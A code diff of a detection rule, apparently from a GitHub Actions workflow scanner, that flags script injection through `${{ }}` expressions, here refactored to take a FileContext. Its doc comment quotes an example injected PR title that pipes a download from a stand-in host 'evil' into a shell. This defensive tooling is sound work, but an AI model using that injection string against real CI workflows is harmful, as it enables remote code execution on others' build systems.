@@ -1,5 +1,6 @@
+import type { FileContext } from "../../file-context.js";
 import type { Severity } from "../../../core/severity.js";
-import type { ScanFile, ScanReport } from "../../rule.js";
+import type { ScanReport } from "../../rule.js";
 import { expressionsIn, parseWorkflow, type Workflow } from "../parsers/workflow.js";
 import { scalarText, valueOf } from "../parsers/yaml-source.js";
 
@@ -10,8 +11,8 @@ const SAFE_LEAF = /^(number|id|node_id|sha|[a-z_]*_sha|before|after|run_id|run_n
  * GHA004: `${{ }}` is pasted into the script before the shell runs it, so a PR title such as
  * `"; curl evil | sh #` becomes code. Only contexts an outsider controls are reported.
  */
-export function check(file: ScanFile): ScanReport[] {
-  const wf = parseWorkflow(file.text);
+export function check(file: FileContext): ScanReport[] {
+  const wf = parseWorkflow(file);
   if (!wf) return [];
   const reports: ScanReport[] = [];
   for (const job of wf.jobs) {
